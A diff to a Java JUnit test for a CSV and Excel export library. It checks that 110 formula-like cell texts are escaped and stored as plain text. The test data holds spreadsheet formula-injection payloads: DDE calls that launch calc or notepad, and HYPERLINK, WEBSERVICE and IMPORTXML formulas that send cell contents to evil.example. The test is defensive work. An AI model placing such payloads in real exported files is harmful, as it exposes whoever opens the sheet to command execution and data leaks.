@@ -23,8 +23,6 @@ import org.dhatim.fastexcel.reader.Cell;
 import org.dhatim.fastexcel.reader.CellType;
 import org.dhatim.fastexcel.reader.ReadableWorkbook;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.ValueSource;
 
 class FilesTest {
 
@@ -67,19 +65,46 @@ class FilesTest {
         assertThat(csv).doesNotContain("hidden");
     }
 
-    @ParameterizedTest
-    @ValueSource(
-            strings = {"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠x", "=HYPERLINK(\"x\")"})
-    void aTextThatLooksLikeAFormulaIsNone(String text) throws IOException {
-        assertThat(read(csv(row(text, text, null, null, null, null, null)))
-                        .get(1)
-                        .get(0))
-                .isEqualTo("'" + text);
+    private static final List<String> FORMULA_STARTS =
+            List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠");
 
-        try (ReadableWorkbook book = book(row(text, text, null, null, null, null, null))) {
-            Cell cell = book.getFirstSheet().read().get(1).getCell(0);
-            assertThat(cell.getType()).isEqualTo(CellType.STRING);
-            assertThat(cell.getFormula()).isNull();
+    private static final List<String> FORMULAS = List.of(
+            "1+1",
+            "cmd|' /C calc'!A0",
+            "HYPERLINK(\"http://evil.example/?x=\"&A1,\"Xem\")",
+            "SUM(A1:A9)*cmd|'/C notepad'!A1",
+            "WEBSERVICE(\"http://evil.example/\")",
+            "IMPORTXML(CONCAT(\"http://evil.example/\",A2),\"//a\")",
+            "DDE(\"cmd\";\"/C calc\";\"x\")",
+            "2+5\",\"=1+1",
+            "1;=1+1",
+            "@SUM(1)\r\n=1+1");
+
+    /** Written and read back: text everywhere, and what a person typed behind the apostrophe. */
+    @Test
+    void oneHundredTextsThatLookLikeFormulasAreTextsAndLoseNothing() throws IOException {
+        List<String> texts = FORMULA_STARTS.stream()
+                .flatMap(start -> FORMULAS.stream().map(formula -> start + formula))
+                .toList();
+        assertThat(texts).hasSizeGreaterThanOrEqualTo(100).doesNotHaveDuplicates();
+        Row[] rows = texts.stream()
+                .map(text -> row(text, text, null, null, null, null, null))
+                .toArray(Row[]::new);
+
+        List<CSVRecord> lines = read(csv(rows));
+        assertThat(lines).hasSize(texts.size() + 1);
+        try (ReadableWorkbook book = book(rows)) {
+            List<org.dhatim.fastexcel.reader.Row> sheet = book.getFirstSheet().read();
+            for (int i = 0; i < texts.size(); i++) {
+                String text = texts.get(i);
+                for (int column = 0; column < 2; column++) {
+                    assertThat(lines.get(i + 1).get(column)).isEqualTo("'" + text);
+                    Cell cell = sheet.get(i + 1).getCell(column);
+                    assertThat(cell.getType()).as(text).isEqualTo(CellType.STRING);
+                    assertThat(cell.getFormula()).as(text).isNull();
+                    assertThat(cell.asString()).isEqualTo(text.replace("\r", ""));
+                }
+            }
         }
     }
 
@@ -123,10 +148,10 @@ class FilesTest {
         }
     }
 
-    private static String csv(Row row) throws IOException {
+    private static String csv(Row... rows) throws IOException {
         ByteArrayOutputStream out = new ByteArrayOutputStream();
         try (CsvSheet sheet = new CsvSheet(out, LISTING)) {
-            sheet.add(row);
+            Arrays.stream(rows).forEach(sheet::add);
         }
         return out.toString(StandardCharsets.UTF_8);
     }
@@ -135,10 +160,10 @@ class FilesTest {
         return CSVFormat.RFC4180.parse(new StringReader(csv.substring(1))).getRecords();
     }
 
-    private static ReadableWorkbook book(Row row) throws IOException {
+    private static ReadableWorkbook book(Row... rows) throws IOException {
         ByteArrayOutputStream out = new ByteArrayOutputStream();
         try (ExcelSheet sheet = new ExcelSheet(out, LISTING)) {
-            sheet.add(row);
+            Arrays.stream(rows).forEach(sheet::add);
         }
         return new ReadableWorkbook(new ByteArrayInputStream(out.toByteArray()));
     }
